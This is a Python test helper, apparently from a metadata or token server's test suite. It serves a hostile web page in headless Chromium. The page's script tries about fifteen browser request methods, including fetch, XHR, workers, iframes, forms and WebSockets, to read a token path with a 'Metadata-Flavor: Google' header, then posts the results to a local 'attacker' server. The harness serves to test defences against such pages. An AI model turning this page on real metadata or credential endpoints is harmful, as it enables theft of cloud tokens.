"""A real browser, and pages that try to get a token with it."""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

# The page tries every way to send a request to its own origin, and reports the results to the attacker's server.
PAGE = """<!doctype html><title>page</title><body><script type="module">
const [port, attacker, path] = %s;
const origin = location.origin;
const found = {};
const wait = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
const within = (promise) => Promise.race([promise, wait(4000).then(() => "timeout")]);
const tell = (name, data) => fetch(`${attacker}/${name}`, {method: "POST", mode: "no-cors", body: JSON.stringify(data)});
const flavor = {"Metadata-Flavor": "Google"};
let worker = null;
try {
  worker = await within(navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready));
} catch (error) { found.worker = String(error); }
await tell("ready", {origin});
while ((await (await fetch(`${attacker}/go`)).text()) !== "go") await wait(50);

const attempts = {
  fetch: async () => (await fetch(path, {headers: flavor})).text(),
  silent: async () => (await fetch(path, {headers: flavor, referrerPolicy: "no-referrer", credentials: "omit"})).text(),
  same_origin: async () => (await fetch(path, {headers: flavor, mode: "same-origin", cache: "no-store"})).text(),
  agent: async () => (await fetch(path, {headers: {...flavor, "User-Agent": "curl/8", "Accept-Language": "*"}})).text(),
  other_name: async () => (await fetch(`http://127.0.0.1:${port}${path}`, {headers: flavor})).text(),
  no_cors: async () => (await fetch(`http://127.0.0.1:${port}${path}`, {mode: "no-cors"})).type,
  redirect: async () => (await fetch(`${attacker}/redirect`, {headers: flavor})).text(),
  keepalive: async () => (await fetch(path, {headers: flavor, keepalive: true})).text(),
  xhr: () => new Promise((done) => {
    const request = new XMLHttpRequest();
    request.onloadend = () => done(request.responseText);
    request.open("GET", path);
    request.setRequestHeader("Metadata-Flavor", "Google");
    request.send();
  }),
  dedicated_worker: () => new Promise((done) => {
    const text = `fetch(${JSON.stringify(origin + path)}, {headers: ${JSON.stringify(flavor)}}).then((r) => r.text()).then(postMessage, (e) => postMessage(String(e)))`;
    const thread = new Worker(URL.createObjectURL(new Blob([text])));
    thread.onmessage = (event) => done(event.data);
    thread.onerror = (event) => done(String(event.message));
  }),
  service_worker: () => new Promise((done) => {
    if (!worker || worker === "timeout") return done("no worker");
    navigator.serviceWorker.onmessage = (event) => done(event.data);
    worker.active.postMessage(path);
  }),
  frame: () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => { try { done(frame.contentDocument.documentElement.innerText); } catch (error) { done(String(error)); } };
    frame.src = path;
    document.body.append(frame);
  }),
  form: () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "target";
    const form = document.createElement("form");
    form.action = path;
    form.target = "target";
    document.body.append(frame, form);
    frame.onload = () => { try { done(frame.contentDocument.documentElement.innerText); } catch (error) { done(String(error)); } };
    form.submit();
  }),
  image: () => new Promise((done) => {
    const image = new Image();
    image.onload = () => done("loaded");
    image.onerror = () => done("error");
    image.src = path;
    document.body.append(image);
  }),
  script: () => new Promise((done) => {
    const script = document.createElement("script");
    script.onload = () => done("loaded");
    script.onerror = () => done("error");
    script.src = path;
    document.body.append(script);
  }),
  websocket: () => new Promise((done) => {
    const socket = new WebSocket(`ws://${location.host}${path}`);
    socket.onopen = () => done("opened");
    socket.onerror = () => done("error");
  }),
  beacon: async () => String(navigator.sendBeacon(path, "x")),
};
for (const [name, attempt] of Object.entries(attempts)) {
  try { found[name] = String(await within(attempt())); } catch (error) { found[name] = String(error); }
}
await tell("found", found);
</script>"""
WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("message", async (event) => {
  let text;
  try { text = await (await fetch(event.data, {headers: {"Metadata-Flavor": "Google"}})).text(); } catch (error) { text = String(error); }
  event.source.postMessage(text);
});
"""


class AttackerServer:
    """The attacker's own server. It tells the page when to start, and receives the results."""

    def __init__(self, port: int, path: str) -> None:
        self.ready, self.go, self.done = threading.Event(), threading.Event(), threading.Event()
        self.found: dict[str, str] = {}
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(302 if self.path == "/redirect" else 200)
                if self.path == "/redirect":
                    self.send_header("Location", f"http://127.0.0.1:{port}{path}")
                self._end(b"go" if attacker.go.is_set() else b"wait")

            def do_POST(self) -> None:
                data = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self._end(b"")
                if self.path == "/ready":
                    attacker.ready.set()
                elif self.path == "/found":
                    attacker.found = data
                    attacker.done.set()

            def do_OPTIONS(self) -> None:
                self.send_response(200)
                self._end(b"")

            def _end(self, body: bytes) -> None:
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Headers", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@contextlib.contextmanager
def page(address: str, port: int, attacker: AttackerServer, path: str) -> Iterator[None]:
    """Serve the page at [::1] or 127.0.0.1."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            worker = self.path == "/worker.js"
            body = (WORKER if worker else PAGE % json.dumps([port, attacker.url, path])).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript" if worker else "text/html")
            self.send_header("Set-Cookie", "session=1")
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Connection", "close")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            pass

    class Server(http.server.ThreadingHTTPServer):
        address_family = 10 if ":" in address else 2

    server = Server((address, port), Handler)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    try:
        yield
    finally:
        server.shutdown()
        server.server_close()


def chromium() -> str | None:
    return next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)


@contextlib.contextmanager
def browsing(url: str, place: Path) -> Iterator[None]:
    """Open a URL in Chromium."""
    program = chromium()
    assert program is not None
    flags = (
        "--headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking --disable-component-update "
        "--disable-sync --disable-dev-shm-usage"
    )
    process = subprocess.Popen(
        [program, *flags.split(), f"--user-data-dir={place}", url],
        env={**os.environ, "HOME": str(place)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        yield
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, 9)
        process.wait()
